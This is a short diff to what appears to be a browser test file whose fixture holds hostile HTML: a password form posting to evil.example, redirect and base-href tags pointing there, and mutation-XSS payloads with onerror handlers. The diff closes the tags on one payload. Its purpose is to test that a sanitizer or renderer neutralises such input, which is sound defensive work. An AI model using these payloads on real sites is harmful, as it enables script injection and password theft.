@@ -11,7 +11,7 @@ const HOSTILE_BODY = `
 <form action="https://evil.example"><input name="password"><button>Войти</button></form>
 <meta http-equiv="refresh" content="0; url=https://evil.example"><meta name="portal-status" content="410"><base href="https://evil.example/">
 <textarea><noscript><style></noscript><img src=x onerror="window.taken = 7"></textarea>
-<math><mtext><table><mglyph><style><img src=x onerror="window.taken = 8">
+<math><mtext><table><mglyph><style><img src=x onerror="window.taken = 8"></style></table></math>
 </p></div></article></main></body></html><h1>Чужой заголовок</h1><p>Конец`;
 
 test.use({ javaScriptEnabled: false });
